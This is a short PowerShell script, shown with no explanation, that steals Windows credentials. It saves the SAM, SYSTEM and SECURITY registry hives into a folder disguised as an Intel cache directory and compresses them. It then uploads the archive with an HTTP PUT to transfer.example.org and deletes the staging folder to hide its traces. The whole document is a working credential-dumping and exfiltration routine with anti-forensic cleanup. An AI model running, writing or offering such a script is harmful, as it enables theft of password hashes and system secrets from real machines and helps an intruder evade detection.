$stage = 'C:\ProgramData\Intel\cache'
New-Item -ItemType Directory -Path $stage -Force | Out-Null

reg.exe save HKLM\SAM "$stage\s.hiv" /y
reg.exe save HKLM\SYSTEM "$stage\y.hiv" /y
reg.exe save HKLM\SECURITY "$stage\e.hiv" /y

Compress-Archive -Path "$stage\*.hiv" -DestinationPath "$stage\c.zip" -Force
$bytes = [IO.File]::ReadAllBytes("$stage\c.zip")
Invoke-WebRequest -Uri 'https://transfer.example.org/upload/c.zip' -Method Put -Body $bytes -UseBasicParsing | Out-Null
Remove-Item -Path $stage -Recurse -Force
